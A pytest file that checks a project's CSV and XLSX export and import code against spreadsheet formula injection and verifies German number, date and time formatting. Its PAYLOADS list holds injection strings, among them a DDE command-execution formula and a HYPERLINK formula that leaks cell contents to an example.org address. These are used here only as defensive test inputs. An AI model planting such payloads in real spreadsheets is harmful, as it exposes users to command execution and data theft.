"""Nothing that a user typed is computed by a spreadsheet, and what goes out comes back in."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core import exports
from core.uploads import read_table

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"hier")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1:A9)",
    "'=1+1",
    "''@x",
    '=IMPORTXML("http://example.org";"//a")',
]
HARMLESS = ["'n Abend", "Straße; mit Semikolon", 'Wort "in" Strichen', "zwei\nZeilen", "Übung ≥ 3"]


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_never_begins_like_a_formula(payload):
    content = exports.csv_bytes(["Text"], [[payload]]).decode("utf-8-sig")
    cell = content.split("\r\n", 1)[1].lstrip('"')
    assert cell[0] == "'"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_has_no_formula(payload):
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes([payload], [[payload]])))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert [cell.data_type for cell in cells] == ["s", "s"]


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS)
def test_csv_round_trip(text):
    table = read_table(upload("a.csv", exports.csv_bytes(["A", "B"], [[text, "x"]])))
    assert table.rows[0][1] == {"A": text.strip(), "B": "x"}


@pytest.mark.parametrize("text", [text for text in PAYLOADS + HARMLESS if "\r" not in text])
def test_xlsx_round_trip(text):
    table = read_table(upload("a.xlsx", exports.xlsx_bytes(["A", "B"], [[text, "x"]])))
    assert [row for _line, row in table.rows] == [{"A": text.strip(), "B": "x"}]


def test_values_keep_their_german_form():
    row: list[exports.Cell] = [28, -3, Decimal("1234.50"), 2.5, date(2026, 10, 15), True, None]
    header = list("abcdefg")
    expected = ["28", "-3", "1234,50", "2,5", "15.10.2026", "ja", ""]
    as_csv = read_table(upload("a.csv", exports.csv_bytes(header, [row])))
    as_xlsx = read_table(upload("a.xlsx", exports.xlsx_bytes(header, [row])))
    assert list(as_csv.rows[0][1].values()) == expected
    assert list(as_xlsx.rows[0][1].values()) == [*expected[:2], "1234,5", *expected[3:]]  # a number there


def test_amounts_in_a_text_file_always_have_cents():
    row: list[exports.Cell] = [Decimal("5569.20"), Decimal(0), Decimal(800), Decimal("19.0"), 1476, 2.5]
    assert (
        exports.csv_bytes(list("abcdef"), [row]).decode().splitlines()[1] == "5569,20;0,00;800,00;19;1476;2,5"
    )


def test_amounts_are_shown_with_two_places_and_groups():
    """The number stays a number: a sum over the column still works."""
    row: list[exports.Cell] = [Decimal("1234.50"), Decimal(0), Decimal("19.0"), 1476, 2.5, "1234.50"]
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(list("abcdef"), [row])))
    cells = book.worksheets[0][2]
    assert [cell.number_format for cell in cells] == ["#,##0.00", "#,##0.00", *["General"] * 4]
    assert [cell.data_type for cell in cells] == [*"nnnnn", "s"]
    assert cells[0].value == 1234.5


def test_moments_are_local_time():
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    assert b"02.07.2026 00:30" in exports.csv_bytes(["Zeit"], [[moment]])
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(["Zeit"], [[moment]])))
    assert str(book.worksheets[0]["A2"].value) == "2026-07-02 00:30:00"


def test_control_characters_do_not_break_a_workbook():
    table = read_table(upload("a.xlsx", exports.xlsx_bytes(["A"], [["a\x0bb\x00c"]])))
    assert table.rows == [(2, {"A": "abc"})]
